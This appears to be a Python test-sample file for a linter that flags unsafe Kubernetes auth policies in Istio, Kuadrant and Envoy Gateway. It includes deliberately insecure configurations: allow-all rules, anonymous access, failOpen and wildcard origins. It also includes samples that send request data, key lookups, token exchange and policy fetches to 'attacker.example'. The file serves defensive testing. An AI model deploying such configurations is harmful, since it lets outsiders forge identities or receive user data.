"""Samples of the rule on entries: policies that let in whom they do not name, and who is asked about callers."""

from __future__ import annotations

from typing import Any

from tests.policy.support.objects import manifest
from tests.policy.support.sample import UNKNOWN_VALUE, Sample, table

_LOGIN = "https://login.kitchen.example"
_STRANGERS = "lets callers in whom it does not name"
_TO_HEALTH = {"to": [{"operation": {"methods": ["GET"], "paths": ["/healthz", "/health"]}}]}
_SOME: dict[str, Any] = {"from": [{"source": {"namespaces": ["kitchen-gateway"]}}]}
_POLICY = manifest("security.istio.io/v1", "AuthorizationPolicy", {"rules": [_SOME]})
_POLICIES = table(
    "kubernetes:security.istio.io/v1:AuthorizationPolicy",
    _POLICY,
    ("callers of a namespace", {}),
    ("callers of a namespace to a path", {"spec rules 0": {**_SOME, "to": [{"operation": {"paths": ["/v1/*"]}}]}}),
    ("callers with a token", {"spec rules 0": {"from": [{"source": {"requestPrincipals": [f"{_LOGIN}/*"]}}]}}),
    ("nobody", {"spec": {}}),
    ("nobody, by an empty list", {"spec rules": []}),
    ("anybody for health", {"spec rules": [_SOME, _TO_HEALTH]}),
    ("everybody denied", {"spec": {"action": "DENY", "rules": [{}]}}),
    ("everybody written down", {"spec": {"action": "AUDIT", "rules": [{}]}}),
    ("an authorizer of the mesh", {"spec": {"action": "CUSTOM", "provider": {"name": "oauth2-proxy"}, "rules": [{}]}}),
    *(
        (
            f"in {namespace}, {name}",
            {"metadata namespace": namespace, "spec rules": [_SOME, rule]},
            f"spec.rules[1]: {_STRANGERS}",
        )
        for namespace in ("team", "istio-system")
        for name, rule in {
            "everybody": {},
            "everybody to a path": {"to": [{"operation": {"paths": ["/*"]}}]},
            "everybody to health and below": {"to": [{"operation": {"paths": ["/health*"]}}]},
            "everybody to health and more": {"to": [*_TO_HEALTH["to"], {"operation": {"methods": ["POST"]}}]},
            "everybody but some": {"from": [{"source": {"notNamespaces": ["a"]}}]},
            "everybody with a header": {"when": [{"key": "request.headers[x-user]", "values": ["a"]}]},
            "every name": {"from": [{"source": {"principals": ["*"]}}]},
        }.items()
    ),
    ("an action of later", {"spec action": "ALLOW_ALL"}, "spec.action: is 'ALLOW_ALL'"),
    ("a rule that is not known", {"spec rules 0": UNKNOWN_VALUE}, _STRANGERS),
)

_TARGET = {"group": "gateway.networking.k8s.io", "kind": "HTTPRoute", "name": "a"}
_REVIEW: dict[str, Any] = {"kubernetesTokenReview": {"audiences": ["a"]}}
_AUTH = manifest("kuadrant.io/v1", "AuthPolicy", {"targetRef": _TARGET, "rules": {"authentication": {"a": _REVIEW}}})
_RULES = "spec rules"
_NO_PROOF = "asks callers for no proof of who they are"


def _part(part: str, entry: dict[str, Any]) -> dict[str, Any]:
    return {f"{_RULES} {part}": {"e": entry}}


_KUADRANT = table(
    "kubernetes:kuadrant.io/v1:AuthPolicy",
    _AUTH,
    ("a token of the cluster", {}),
    ("keys of callers", {f"{_RULES} authentication a": {"apiKey": {"selector": {"matchLabels": {"a": "b"}}}}}),
    ("anybody", {f"{_RULES} authentication a": {"anonymous": {}}}, f"authentication.a: {_NO_PROOF}"),
    ("a token or anybody", {f"{_RULES} authentication b": {"anonymous": {}}}, f"authentication.b: {_NO_PROOF}"),
    (
        "anybody by default",
        {"spec defaults": {"rules": {"authentication": {"a": {"anonymous": {}}}}}},
        f"spec.defaults.rules.authentication.a: {_NO_PROOF}",
    ),
    ("who a header says", {f"{_RULES} authentication a": {"plain": {"selector": "request.headers.x-user"}}}, _NO_PROOF),
    ("a proof of later", {f"{_RULES} authentication a": {"telepathy": {}}}, _NO_PROOF),
    ("asked inside", _part("metadata", {"http": {"url": "http://people.directory.svc.cluster.local/who"}})),
    ("asked at one's own", _part("metadata", {"http": {"url": "https://people.kitchen.example/who"}})),
    (
        "asked outside",
        _part("metadata", {"http": {"url": "https://attacker.example", "method": "POST"}}),
        "rules.metadata.e.http.url: leads to 'https://attacker.example', which is nothing inside",
    ),
    (
        "told outside",
        _part("callbacks", {"http": {"url": "https://attacker.example/log"}}),
        "rules.callbacks.e.http.url",
    ),
    (
        "a policy from outside",
        _part("authorization", {"opa": {"externalPolicy": {"url": "https://attacker.example/p.rego"}}}),
        "rules.authorization.e.opa.externalPolicy.url",
    ),
    ("a policy that asks", _part("authorization", {"opa": {"rego": "allow = http.send(input.x)"}}), "cannot be seen"),
    ("a policy that asks nobody", _part("authorization", {"opa": {"rego": 'allow { input.user == "a" }'}})),
    (
        "an address by an expression",
        _part("metadata", {"http": {"urlExpression": "request.headers.x"}}),
        "urlExpression: leads to addresses that cannot be seen",
    ),
    (
        "strangers sent outside",
        _part("response", {"headers": {"location": {"value": "https://attacker.example"}}}),
        "inside",
    ),
    ("a part of later", {f"{_RULES} telepathy": {}}, "rules.telepathy: is no field that is understood"),
)

_SECURITY = manifest("gateway.envoyproxy.io/v1alpha1", "SecurityPolicy", {"targetRefs": [_TARGET]})
_EXT = {"http": {"backendRefs": [{"name": "oauth2-proxy", "namespace": "auth", "port": 80}]}}
_NO_AUTHORITY = "and the configuration of this rule states no such authority"
_STATED = {
    "authorities": [{"name": "auth/oauth2-proxy", "reason": "the organisation's sign-in"}],
    "issuers": [_LOGIN],
}
_ENVOY = (
    *table(
        "kubernetes:gateway.envoyproxy.io/v1alpha1:SecurityPolicy",
        _SECURITY,
        ("asks a stated authority", {"spec extAuth": _EXT}),
        ("asks it by gRPC", {"spec extAuth": {"grpc": {"backendRef": {"name": "oauth2-proxy", "namespace": "auth"}}}}),
        (
            "asks it and lets in without an answer",
            {"spec extAuth": {**_EXT, "failOpen": True}},
            "spec.extAuth.failOpen: is True",
        ),
        (
            "asks one of that name elsewhere",
            {"spec extAuth": {"http": {"backendRefs": [{"name": "oauth2-proxy"}]}}},
            f"backendRefs[0]: is team/oauth2-proxy, {_NO_AUTHORITY}",
        ),
        (
            "asks another kind",
            {
                "spec extAuth": {
                    "http": {"backendRefs": [{"name": "oauth2-proxy", "namespace": "auth", "kind": "Backend"}]}
                }
            },
            _NO_AUTHORITY,
        ),
        (
            "asks whom is not known",
            {"spec extAuth": {"http": {"backendRefs": UNKNOWN_VALUE}}},
            "backendRefs: is not known",
        ),
        (
            "whom no rule names",
            {"spec authorization": {"defaultAction": "Allow"}},
            "defaultAction: is 'Allow': whom no",
        ),
        ("nobody whom no rule names", {"spec authorization": {"defaultAction": "Deny"}}),
        (
            "origins of one's own",
            {"spec cors": {"allowOrigins": ["https://portal.kitchen.example"]}, "spec extAuth": _EXT},
        ),
        (
            "origins alone",
            {"spec cors": {"allowOrigins": ["https://portal.kitchen.example"]}},
            "spec: names no callers, and takes the place of what its gateway asks of them",
        ),
        ("nothing at all", {}, "spec: names no callers"),
        *(
            (
                f"callers by {principal}",
                {"spec authorization": {"rules": [{"action": "Allow", "principal": principal}]}},
                *says,
            )
            for principal, *says in (
                ({"clientCIDRs": ["10.20.0.0/16"]},),
                ({"clientCIDRs": ["0.0.0.0/0", "::/0"]}, "spec: names no callers"),
                ({"clientCIDRs": ["0.0.0.0/1", "128.0.0.0/1"]}, "spec: names no callers"),
                ({"headers": [{"name": "x-user", "values": ["admin"]}]}, "spec: names no callers"),
            )
        ),
        ("every origin", {"spec cors": {"allowOrigins": ["*"]}}, "cors.allowOrigins[0]: is '*'"),
        (
            "keys by a listed issuer",
            {"spec jwt": {"providers": [{"issuer": _LOGIN, "remoteJWKS": {"uri": f"{_LOGIN}/keys"}}]}},
        ),
        (
            "keys by a stranger",
            {"spec jwt": {"providers": [{"issuer": _LOGIN, "remoteJWKS": {"uri": "https://attacker.example/keys"}}]}},
            "remoteJWKS.uri: leads to 'https://attacker.example/keys'",
        ),
        (
            "keys by hand",
            {"spec jwt": {"providers": [{"issuer": _LOGIN, "localJWKS": {"inline": "{}"}}]}},
            "providers[0].localJWKS: are keys written by hand",
        ),
        (
            "signed in by a stranger's page",
            {"spec oidc": {"provider": {"issuer": _LOGIN, "tokenEndpoint": "https://attacker.example/token"}}},
            "oidc.provider.tokenEndpoint: leads to",
        ),
        config=_STATED,
    ),
    *table(
        "kubernetes:gateway.envoyproxy.io/v1alpha1:SecurityPolicy",
        _SECURITY,
        ("asks whom nobody states", {"spec extAuth": _EXT}, f"is auth/oauth2-proxy, {_NO_AUTHORITY}"),
    ),
)

_REQUESTS = table(
    "kubernetes:security.istio.io/v1:RequestAuthentication",
    manifest(
        "security.istio.io/v1",
        "RequestAuthentication",
        {"jwtRules": [{"issuer": _LOGIN, "jwksUri": f"{_LOGIN}/keys", "fromHeaders": [{"name": "x"}]}]},
    ),
    ("keys of the issuer", {}),
    ("keys inside", {"spec jwtRules 0 jwksUri": "http://keycloak.sso.svc:8080/keys"}),
    (
        "keys of a stranger",
        {"spec jwtRules 0 jwksUri": "https://attacker.example/keys"},
        "jwtRules[0].jwksUri: leads to 'https://attacker.example/keys', which is nothing inside",
    ),
    (
        "keys of one that begins so",
        {"spec jwtRules 0 jwksUri": f"{_LOGIN}.attacker.example/keys"},
        "jwtRules[0].jwksUri: leads to",
    ),
    ("keys that are written down", {"spec jwtRules 0 jwks": "{}"}, "jwtRules[0].jwks: are keys written by hand"),
    config=_STATED,
)

SAMPLES: dict[str, tuple[Sample, ...]] = {"entry-guarded": (*_POLICIES, *_KUADRANT, *_ENVOY, *_REQUESTS)}
